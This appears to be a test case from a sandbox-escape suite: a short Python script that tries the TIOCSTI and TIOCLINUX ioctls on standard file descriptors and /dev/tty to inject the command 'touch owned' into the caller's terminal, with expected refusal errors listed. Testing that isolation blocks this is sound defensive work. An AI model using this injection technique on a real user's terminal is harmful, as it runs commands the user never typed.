"""A program types into the terminal of its caller, who then runs what it typed.

attacks: ioctl on a terminal
effect: the caller's terminal has input that nobody has typed
refused: ENOTTY, EPERM, EIO
topic: TIOCSTI, TIOCLINUX
"""

import ctypes
import fcntl
import termios

from kit import attempt

TIOCLINUX = 0x541c

for fd in (0, 1, 2):
    for byte in b"touch owned\n":
        with attempt():
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
    with attempt():
        fcntl.ioctl(fd, TIOCLINUX, ctypes.create_string_buffer(b"\x03"))
with attempt(), open("/dev/tty", "rb+", 0) as terminal:
    fcntl.ioctl(terminal, termios.TIOCSTI, b"x")
